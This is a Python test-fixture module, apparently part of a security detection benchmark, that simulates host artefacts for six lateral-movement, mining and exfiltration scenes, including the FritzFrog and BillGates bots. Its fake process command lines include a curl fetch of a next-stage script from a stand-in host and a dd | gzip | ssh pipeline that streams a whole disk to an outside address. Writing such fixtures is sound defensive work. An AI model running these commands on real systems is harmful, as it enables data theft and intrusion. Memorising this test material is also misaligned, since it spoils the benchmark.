"""Attacks that go further or carry away: by the cloud's agent, under a service's name, to the next host; worms and bots (TA0002, TA0008, TA0010)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def _home(host: Host, uid: str) -> str:
    """Return a folder in which this account may write."""
    home = next((row["directory"] for row in host.tables["users"] if row["uid"] == uid), "/")
    return home if home.startswith(("/home/", "/opt/", "/srv/", "/var/lib/", "/root")) else "/var/lib/misc"


def systems_manager_command(host: Host) -> None:
    """T1651, T1078.004: stolen rights in the cloud: the company's own agent runs a command that fetches the next stage."""
    unit = "amazon-ssm-agent.service"
    command = "7d1c2b9e-52c4-4a0e-9d0b-3f0c6d1f8a27"
    parents = scene.named(host, "ssm-agent-worke", "amazon-ssm-agen")
    worker = scene.spawn(host, "/usr/bin/ssm-document-worker", f"/usr/bin/ssm-document-worker {command}", name="ssm-document-wo",
                         parent=parents[0]["pid"] if parents else "1", age_s=9, unit=unit)  # fmt: skip
    folder = f"/var/lib/amazon/ssm/i-0{scene.digest(scene.own_address(host), 16)}/document/orchestration/{command}/awsrunShellScript"
    sh = scene.spawn(host, scene.shell(host), f"sh -c {folder}/0.awsrunShellScript/_script.sh", name="sh", parent=worker, cwd="/usr/bin", age_s=9, unit=unit)  # fmt: skip
    pid = scene.spawn(host, "/usr/bin/curl", "curl -fsSL https://203.0.113.20/inventory.sh -o /root/inventory.sh", parent=sh, age_s=8, unit=unit)  # fmt: skip
    scene.connect(host, pid, "203.0.113.20", 443)


def postmaster_look_alike(host: Host) -> None:
    """T1036.004, T1496: JINX-0126: a loader named postmaster in the home of the service's user, a job each minute; the miner was never a file."""
    row = scene.work(host)
    uid, folder = row["uid"], _home(host, row["uid"])
    path = f"{folder}/postmaster"
    scene.put(host, path, mode="0755", uid=uid, age_s=90_000)
    loader = scene.spawn(host, path, "postgres: 15/main: logical replication launcher", name="postmaster", uid=uid, cwd=folder, static=True, threads=4, age_s=50_000)  # fmt: skip
    miner = scene.spawn(host, "/memfd:cpu_hu (deleted)", "postgres: 15/main: autovacuum worker", name="cpu_hu", uid=uid, parent=loader, cwd=folder,
                        on_disk="0", static=True, threads=7, age_s=50_000)  # fmt: skip
    scene.connect(host, loader, "198.51.100.52", 36_287)
    scene.connect(host, miner, "198.51.100.53", 443)
    scene.cron(host, scene.spool(host, scene.user_of(host, uid)), "* * * * *", path)


def session_manager_onward(host: Host) -> None:
    """T1021.008, T1552.005: with the instance's role the application's user opens a session on another instance; no port of it was reached."""
    row, subnet = scene.work(host), int(scene.own_address(host).split(".")[2]) // 16 * 16
    line = "aws ssm start-session --target i-0c41d2f7e8a9b6350 --region eu-west-1"
    aws = scene.spawn(host, "/usr/local/aws-cli/v2/2.15.0/dist/aws", line, uid=row["uid"], parent=row["pid"], cwd="/tmp", age_s=800)  # fmt: skip
    path = "/usr/local/sessionmanagerplugin/bin/session-manager-plugin"
    scene.put(host, path, mode="0755", age_s=2_000)
    pid = scene.spawn(host, path, 'session-manager-plugin {"SessionId": "web-role-0fe2ab7c"} eu-west-1 StartSession', uid=row["uid"], parent=aws,
                      cwd="/tmp", static=True, threads=8, age_s=798)  # fmt: skip
    scene.connect(host, pid, f"10.20.{subnet + 9}.88", 443)


def volume_streamed(host: Host) -> None:
    """T1005, T1048: root reads the whole disk and sends it packed to an outsider over SSH."""
    sh = scene.spawn(host, "/usr/bin/bash", "bash -c dd if=/dev/nvme0n1 bs=4M status=none | gzip -1 | ssh -o StrictHostKeyChecking=no -i /root/.k b@198.51.100.41 cat", age_s=1_200)  # fmt: skip
    scene.spawn(host, "/usr/bin/dd", "dd if=/dev/nvme0n1 bs=4M status=none", parent=sh, age_s=1_200)
    scene.spawn(host, "/usr/bin/gzip", "gzip -1", parent=sh, age_s=1_200)
    pid = scene.spawn(host, "/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no -i /root/.k b@198.51.100.41 cat", parent=sh, age_s=1_200)  # fmt: skip
    scene.connect(host, pid, "198.51.100.41", 22)
    scene.put(host, "/root/.k", mode="0600", age_s=1_300)


def fritzfrog(host: Host) -> None:
    """T1110, T1021.004: FritzFrog: a peer without a file, under the names of a web server and of ifconfig; it guesses neighbours' passwords."""
    worm = scene.spawn(host, "/usr/share/nginx/nginx", "nginx", name="nginx", cwd="/root", on_disk="0", static=True, threads=22)  # fmt: skip
    other = scene.spawn(host, "/usr/share/ifconfig", "ifconfig", name="ifconfig", parent=worm, cwd="/root", on_disk="0", static=True, threads=6)  # fmt: skip
    scene.listen(host, worm, 1234)
    for last in range(30, 46):
        scene.connect(host, worm, f"10.20.7.{last}", 22)
    for last in (71, 84, 93, 120):
        scene.connect(host, other, f"203.0.113.{last}", 1234)
    scene.key(host, "root", "fritzfrog", comment="")


def billgates(host: Host) -> None:
    """T1554, T1498: BillGates: `.sshd` and `getty` of its own, tools that show processes and ports replaced, the honest ones kept aside."""
    for name in ("ps", "lsof"):
        scene.replace(host, f"/usr/bin/{name}", "billgates")
        scene.put(host, f"/usr/bin/dpkgd/{name}", "kept", mode="0755", age_s=300 * 86_400)
    for name in ("DbSecuritySpt", "selinux"):
        scene.put(host, f"/etc/init.d/{name}", mode="0755")
        host.add("systemd_units", id=f"{name}.service", description=f"LSB: {name}", load_state="loaded", active_state="active", sub_state="exited",
                 unit_file_state="generated", fragment_path=f"/run/systemd/generator.late/{name}.service", source_path=f"/etc/init.d/{name}")  # fmt: skip
    for name in ("gates.lod", "moni.lod"):
        scene.put(host, f"/tmp/{name}", mode="0755")
    bot = scene.spawn(host, "/usr/bin/.sshd", "/usr/bin/.sshd", name=".sshd", static=True, threads=5)
    scene.spawn(host, "/usr/bin/bsd-port/getty", "/usr/bin/bsd-port/getty", static=True)
    scene.connect(host, bot, "192.0.2.172", 36_000)


ATTACKS = (systems_manager_command, postmaster_look_alike, session_manager_onward, volume_streamed, fritzfrog, billgates)  # fmt: skip
